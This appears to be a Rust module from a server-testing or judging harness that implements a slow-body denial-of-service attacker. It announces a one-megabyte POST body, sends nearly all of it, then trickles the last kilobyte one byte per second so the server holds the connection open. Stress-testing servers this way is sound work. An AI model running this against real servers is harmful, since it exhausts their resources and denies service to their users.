//! Connections that announce a megabyte, send nearly all of it, and then stall.

use super::crew::{AttackClient, AttackOutcome, Attacker, Crew, status};
use std::io;
use std::sync::Arc;
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::tcp::{ReadHalf, WriteHalf};

/// The announced size: the most that a server accepts.
const ANNOUNCED: usize = 1 << 20;
/// The part held back and sent byte by byte.
const KEPT: usize = 1 << 10;
/// The send buffer of the attackers' sockets: unlimited, 800 bodies would be copied at once, on the machine of the
/// server being judged.
const UNSENT: u32 = 64 << 10;
/// The pause before each of these bytes.
const EACH: Duration = Duration::from_secs(1);

static SPACES: [u8; ANNOUNCED] = [b' '; ANNOUNCED];

/// An attacker who holds a body.
pub struct Holder {
    pub attacker: Arc<Attacker>,
}

impl Holder {
    async fn hold(&self, crew: &Crew) -> io::Result<AttackOutcome> {
        let mut stream = self.attacker.address.connect_keeping(UNSENT).await?;
        let head = format!(
            "POST /api/games HTTP/1.1\r\nHost: {}\r\nContent-Type: application/json\r\n\
             Content-Length: {ANNOUNCED}\r\n\r\n",
            self.attacker.address.authority(),
        );
        let (mut reader, mut writer) = stream.split();
        let mut is_counted = false;
        let sent = tokio::select! {
            sent = send_slowly(&mut writer, &head, || {
                crew.score.sent.up();
                is_counted = true;
            }) => sent.map(|()| AttackOutcome::Done),
            answer = answer(&mut reader) => answer,
        };
        if !is_counted {
            crew.score.sent.up();
        }
        sent
    }
}

/// Sends a request that never ends.
async fn send_slowly(
    writer: &mut WriteHalf<'_>,
    head: &str,
    nearly_all: impl FnOnce(),
) -> io::Result<()> {
    writer.write_all(head.as_bytes()).await?;
    writer.write_all(&SPACES[KEPT..]).await?;
    nearly_all();
    for _ in 0..KEPT {
        tokio::time::sleep(EACH).await;
        writer.write_all(b" ").await?;
    }
    Ok(())
}

async fn answer(reader: &mut ReadHalf<'_>) -> io::Result<AttackOutcome> {
    let mut head = [0; 16];
    let read = reader.read(&mut head).await?;
    Ok(status(&head[..read]))
}

impl AttackClient for Holder {
    async fn once(&mut self, crew: &Crew) -> AttackOutcome {
        self.hold(crew).await.unwrap_or(AttackOutcome::Unanswered)
    }
}
